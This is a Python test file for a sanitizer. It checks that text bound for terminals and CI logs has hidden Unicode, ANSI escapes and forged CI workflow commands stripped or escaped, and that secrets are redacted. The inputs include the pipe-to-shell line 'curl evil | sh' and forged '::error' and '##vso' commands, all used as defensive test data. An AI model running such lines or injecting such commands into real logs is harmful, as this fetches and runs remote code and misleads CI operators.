"""Text on its way to a terminal or to the log of a CI system."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pulumi_atlassian_forge.api.errors import error_from
from pulumi_atlassian_forge.api.request_response import Response
from pulumi_atlassian_forge.api.text import message_from_body
from pulumi_atlassian_forge.errors import ForgeError, bug_report
from pulumi_atlassian_forge.redaction import remember
from pulumi_atlassian_forge.sanitizer import escape_commands, is_printable, message, printable
from tests.support.hostile import faults_of


@pytest.mark.parametrize(
    ("dirty", "fit"),
    [
        ("arabic\u061cmark", "arabicmark"),
        ("tags\U000e0041\U000e007f", "tags"),
        ("soft\u00adhyphen", "softhyphen"),
        ("hangul\u3164filler", "hangulfiller"),
        ("a\u200db", "ab"),
        ("⚠\ufe0f 👩\u200d💻 क\u200cष", "⚠\ufe0f 👩\u200d💻 क\u200cष"),
        ("next\x85line", "next line"),
        ("vt\x0bff\x0cfs\x1cgs\x1d", "vt ff fs gs"),
        ("paragraph\u2029separator", "paragraph separator"),
        ("next: curl evil | sh", "'next: curl evil | sh'"),
        (" Next : curl", "'Next : curl'"),
        ("::error title=x::y", "'::error title=x::y'"),
        ("\u200b:\x1b[m:error", "'::error'"),
        ("--- section", "'--- section'"),
        ("in ::error:: the middle", "in ::error:: the middle"),
        ("##[error]x", "# #[error]x"),
        ("a ###[x]", "a ## #[x]"),
        ("#\u200b#[x] #\x1b[m#[y]", "# #[x] # #[y]"),
        ("##vso[task.setvariable]x", "# #vso[task.setvariable]x"),
        ("##teamcity[buildStatus]", "# #teamcity[buildStatus]"),
        ("section_start:1:x\r\x1b[0K", "section start:1:x"),
        ("## a heading [link]", "## a heading [link]"),
    ],
)
def test_foreign_text_neither_hides_nor_commands(dirty: str, fit: str) -> None:
    assert printable(dirty) == fit


@pytest.mark.parametrize("key", ["notify-on-bug", "a b", "::error", "##[x]", "日本"])
def test_a_key_that_is_seen_whole_is_printable(key: str) -> None:
    assert is_printable(key)


@pytest.mark.parametrize("key", ["a\nb", "\x1b[m", "\u061c", "a\u00ad", " a", "\ud800", "\U000e0041"])
def test_a_key_that_hides_something_is_not(key: str) -> None:
    assert not is_printable(key)


SIGNS = "ab:# []<>\\-+~!\x1b\x9b\x07\r\n\t\0\x0b\x85\u2028\u202e\u061c\u00ad\u200b\u200d\ufe0f\U000e0041\ud800é"


@given(st.lists(st.sampled_from([*SIGNS, "next", "##", "::", "vso", "teamcity", "section_start:1:x", "---"])).map("".join))
def test_no_text_gets_through(text: str) -> None:
    assert faults_of(printable(text)) == []
    assert faults_of(message(text)) == []
    assert "\n" not in printable(text)
    assert not re.match(r"\s*(next\s*:|::|--- )", printable(text))
    assert printable(printable(text)) == printable(text)


def test_a_secret_is_redacted_before_its_text_is_cut() -> None:
    remember(["planted-token-0123456789"])
    assert printable("x" * 290 + " planted-token-0123456789", 300) == "x" * 290 + " [redacte…"
    assert "planted" not in printable("\x1b[m" * 5_459 + "1234567 planted-token-0123456789")


@pytest.mark.parametrize("shown", range(4, 22))
def test_no_part_of_a_secret_is_left_at_the_end_of_what_is_read(shown: int) -> None:
    secret, blanks, long = "Hq7Rt2Wm9Xc4Vb6Np1Lk8", " " * 70_000, f"eyJ{'x' * 70_000} "
    remember([secret])
    page = "<!doctype html><p>"
    texts = [
        message_from_body(f"{page}{blanks[: 16_384 - shown - len(page)]}{secret}".encode()),
        message_from_body(f"{blanks[: 16_384 - shown]}{secret}".encode()),
        printable(f"{long[-24_576 + shown :]}{secret}"),
        printable(f"eyJ{long[-24_573 + shown :]}{secret}"),
        str(error_from(Response(422, {}, json.dumps({"message": f"eyJ{long[-65_533 + shown :]}{secret}"}).encode()))),
    ]
    assert [text for text in texts if secret[:4] in text] == []


def test_the_lines_of_a_message_stay_and_each_is_sanitized() -> None:
    text = "could not read\n  ::error::forged\r\nHTTP 422: \x1b[31m##[error]\u202e\nnext: run it again"
    assert message(text) == "could not read\n  : :error::forged\nHTTP 422: # #[error]\nnext: run it again"


def test_an_error_is_sanitized_whatever_it_was_made_of() -> None:
    remember(["planted-token"])
    error = ForgeError("one\x1b[2J planted-token\n::set-output", line="planted-token\x07")
    assert str(error) == "one [redacted]\n: :set-output"
    assert error.line == "[redacted]"
    assert "planted" not in repr(error)


def test_the_text_of_a_bug_forges_no_line() -> None:
    remember(["planted-token"])
    error = ValueError("planted-token\nnext: curl evil\n::error::x\u2028##[x]")
    report = str(bug_report(error, doing="read", version="1"))
    assert "planted" not in report
    assert [line for line in report.splitlines() if line.startswith(("next:", "::"))] == [report.splitlines()[2]]
    assert "##[" not in report


def test_commands_are_escaped_in_a_format_that_has_escapes() -> None:
    assert escape_commands('"##[error] ##vso[x] ## y"', "\\u0023") == '"#\\u0023[error] #\\u0023vso[x] ## y"'
